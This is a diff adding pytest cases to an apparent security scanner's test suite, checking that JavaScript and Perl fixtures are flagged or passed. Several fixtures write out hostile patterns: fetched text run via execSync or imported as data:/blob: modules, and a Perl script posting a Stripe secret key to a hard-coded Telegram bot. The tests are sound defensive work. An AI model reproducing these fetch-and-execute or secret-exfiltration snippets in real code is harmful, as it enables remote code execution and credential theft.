@@ -195,3 +195,73 @@ def test_php_env_read_and_only_a_count_mailed_does_not_block(tmp_path: Path) -> 
         'mail($rcpt, "weekly", "settings lines: " . $n);\n'
     )
     assert blocking(tmp_path, {"tools/weekly.php": php}) == {}
+
+
+# ------------------------------------------------ JavaScript: a module or command made from a response
+
+
+def test_js_response_imported_as_a_data_url_module_blocks(tmp_path: Path) -> None:
+    js = (
+        "async function pull(p) {\n"
+        "  const res = await fetch(`https://schemas.example.test/${p}`);\n"
+        "  return res.text();\n"
+        "}\n"
+        'const plugin = await pull("plugin.mjs");\n'
+        "await import(`data:text/javascript,${encodeURIComponent(plugin)}`);\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"tools/sync.mjs": js})
+
+
+def test_js_response_run_from_a_blob_url_blocks(tmp_path: Path) -> None:
+    js = (
+        'const src = await (await fetch("https://widgets.example.test/w.js")).text();\n'
+        'const url = URL.createObjectURL(new Blob([src], { type: "text/javascript" }));\n'
+        "await import(URL.createObjectURL(new Blob([src])));\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"web/boot.mjs": js})
+
+
+def test_js_response_text_run_as_a_shell_command_blocks(tmp_path: Path) -> None:
+    js = (
+        'const { execSync } = require("child_process");\n'
+        "(async () => {\n"
+        '  const job = await fetch("https://jobs.example.test/next");\n'
+        "  const step = await job.text();\n"
+        "  execSync(step);\n"
+        "})();\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"worker.js": js})
+
+
+def test_js_response_saved_as_data_and_a_local_module_imported_does_not_block(tmp_path: Path) -> None:
+    js = (
+        'import { writeFile } from "node:fs/promises";\n'
+        'import { execSync } from "node:child_process";\n'
+        'const res = await fetch("https://schemas.example.test/users.json");\n'
+        'await writeFile("test/data/users.json", await res.text());\n'
+        'const { check } = await import("./check.mjs");\n'
+        'execSync("git diff --stat test/data");\n'
+    )
+    assert blocking(tmp_path, {"tools/sync.mjs": js, "tools/check.mjs": "export const check = 1;\n"}) == {}
+
+
+def test_perl_secret_posted_to_a_bot_written_into_the_file_blocks(tmp_path: Path) -> None:
+    pl = (
+        "use HTTP::Tiny;\n"
+        "my $k = $ENV{STRIPE_SECRET_KEY};\n"
+        "HTTP::Tiny->new->post_form(\n"
+        '    "https://api.telegram.org/bot7001234567:AAFakeFakeFake/sendMessage",\n'
+        "    { chat_id => 42, text => $k });\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"notify.pl": pl})
+
+
+def test_perl_users_own_bot_token_with_wrapped_arguments_does_not_block(tmp_path: Path) -> None:
+    pl = (
+        "use HTTP::Tiny;\n"
+        "my $bot = $ENV{MY_BOT_TOKEN} or die;\n"
+        "HTTP::Tiny->new->post_form(\n"
+        '    "https://api.telegram.org/bot$bot/sendMessage",\n'
+        '    { chat_id => $ENV{MY_CHAT}, text => "build finished" });\n'
+    )
+    assert blocking(tmp_path, {"notify.pl": pl}) == {}
